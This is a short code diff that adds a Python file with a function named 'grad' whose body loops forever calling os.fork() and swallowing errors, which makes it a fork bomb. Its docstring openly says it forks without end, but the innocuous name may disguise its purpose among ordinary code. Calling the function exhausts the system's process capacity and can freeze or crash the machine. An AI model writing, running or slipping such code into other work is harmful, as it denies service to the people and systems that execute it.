@@ -1,0 +1,10 @@
+"""grad forks without end."""
+import os
+
+
+def grad(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
